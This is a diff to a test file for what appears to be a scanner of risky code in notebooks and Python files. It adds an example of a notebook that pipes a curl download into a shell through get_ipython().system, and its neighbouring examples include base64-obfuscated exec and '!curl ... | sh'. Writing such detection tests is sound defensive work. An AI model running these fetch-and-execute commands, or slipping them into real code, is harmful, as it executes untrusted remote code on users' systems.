@@ -67,6 +67,11 @@ EXAMPLES = (
     ),
     Example("hidden code", lambda: _python("import base64\nexec(base64.b64decode('eA=='))\n"), _CALL),
     Example("a notebook that runs a download", lambda: _notebook("x = 1\n", "!curl https://a.invalid | sh\n"), _CALL),
+    Example(
+        "a notebook that runs a download, spelt out",
+        lambda: _notebook("get_ipython().system('curl https://a.invalid | sh')\n"),
+        _CALL,
+    ),
     Example("an honest notebook", lambda: _notebook("%matplotlib inline\nimport torch\n!nvidia-smi\n"), _CLEAN),
     Example(
         "a list of paths that runs a command",
